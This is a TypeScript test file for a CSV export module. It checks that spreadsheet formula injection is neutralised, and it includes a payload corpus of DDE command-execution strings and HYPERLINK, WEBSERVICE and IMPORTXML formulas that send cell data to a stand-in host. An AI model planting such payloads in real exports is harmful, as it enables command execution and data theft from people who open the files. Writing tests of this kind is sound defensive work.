import { csv, harmless } from '#domain/csv.ts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

/** Beginnings that a spreadsheet takes for a formula, and what hides them. */
const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '＝', '＋', '－', '＠', '−', '﹣'];
const HIDDEN = ['', ' ', '\u00a0', '\u200b', '\ufeff', '"', "'", ' "'];
const PAYLOADS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://zlosliwy.example/?x="&A1,"kliknij")',
  'WEBSERVICE("https://zlosliwy.example/"&A1)',
  'IMPORTXML(CONCAT("https://zlosliwy.example/?",A1:E10),"//a")',
  'DDE("cmd";"/C calc";"x")',
  "SUM(1+1)*cmd|' /C calc'!A0",
];
const CORPUS = BEGINNINGS.flatMap((begin) =>
  PAYLOADS.map((payload, i) => `${HIDDEN[(i + begin.length) % HIDDEN.length]}${begin}${payload}`),
);

/** RFC 4180 with semicolons, read back. */
function parsed(text: string): string[][] {
  return text
    .slice(1)
    .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
    .slice(0, -1)
    .map((row) =>
      row
        .split(/;(?=(?:[^"]*"[^"]*")*[^"]*$)/)
        .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)),
    );
}

/** What a spreadsheet would do with the cell. */
const runs = (cell: string): boolean =>
  /^[=+\-@\t\r\n\0＝＋－﹣−＠]/.test(cell.replace(/^[\s\u00a0\u200b\ufeff"]+/, '')) || /^[=+\-@\t\r\n\0]/.test(cell);

describe('cells that are handed out', () => {
  it(`[F92] none of ${CORPUS.length} injections begins a formula, in CSV or as a typed string`, () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(60);
    expect(CORPUS.filter((payload) => runs(harmless(payload)))).toEqual([]);
    const cells = parsed(csv(CORPUS.map((payload) => ['przed', payload, 'po'])));
    expect(cells).toHaveLength(CORPUS.length);
    expect(cells.filter(([a, b = '', c]) => a !== 'przed' || runs(b) || c !== 'po')).toEqual([]);
  });

  it('[F92] any text stays one cell, and comes back as it was unless it could run', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' }), fc.constantFrom(...CORPUS));
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1 }), (rows) => {
        expect(parsed(csv(rows))).toEqual(rows.map((row) => row.map(harmless)));
        for (const cell of rows.flat()) {
          const clean = cell.replaceAll('\0', '\ufffd');
          expect([clean, `'${clean}`]).toContain(harmless(cell));
          expect(runs(harmless(cell))).toBe(false);
        }
      }),
    );
  });

  it('leaves harmless texts alone and writes what Excel in Polish reads', () => {
    expect(harmless('zażółć; gęślą')).toBe('zażółć; gęślą');
    expect(
      csv([
        ['Kod', 'Godziny', 'Tak', 'Brak'],
        ['12-K7Q4ZD-X', 7.5, true, null],
        ['a "b"', -3, false, 'x;y'],
      ]),
    ).toBe('\ufeffKod;Godziny;Tak;Brak\r\n12-K7Q4ZD-X;7,5;1;\r\n"a ""b""";-3;0;"x;y"\r\n');
    expect(() => csv([[NaN]])).toThrow(RangeError);
  });
});
